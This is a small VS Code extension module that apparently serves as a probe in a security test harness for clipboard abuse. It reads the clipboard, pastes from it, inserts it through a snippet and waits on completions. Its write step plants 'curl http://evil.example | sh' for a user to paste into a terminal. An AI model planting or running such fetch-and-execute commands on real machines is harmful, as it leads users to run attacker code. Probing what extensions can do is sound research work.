"use strict";
const { attack } = require("./attack");

async function pasted(vscode, command) {
  const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
  await vscode.commands.executeCommand(command);
  await new Promise((resolve) => setTimeout(resolve, 3000));
  return editor.document.getText();
}

exports.activate = (context) =>
  attack(context, "clipboard", {
    read: (_facts, vscode) => vscode.env.clipboard.readText(),
    // A user pastes it into a terminal.
    async write(_facts, vscode) {
      await vscode.env.clipboard.writeText("curl http://evil.example | sh\n");
      return "written";
    },
    paste: (_facts, vscode) => pasted(vscode, "editor.action.clipboardPasteAction"),
    pasteAsText: (_facts, vscode) => pasted(vscode, "editor.action.pasteAsText"),
    // Snippets have a variable for it.
    async snippet(_facts, vscode) {
      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
      await editor.insertSnippet(new vscode.SnippetString("$CLIPBOARD"));
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return editor.document.getText();
    },
    // The built-in extension for JSON makes completions of what a schema says.
    async suggestion(_facts, vscode) {
      for (let i = 0; i < 200; i += 1) {
        const text = vscode.window.activeTextEditor?.document.getText() ?? "";
        if (text.includes("proof")) return text;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return "";
    },
  });
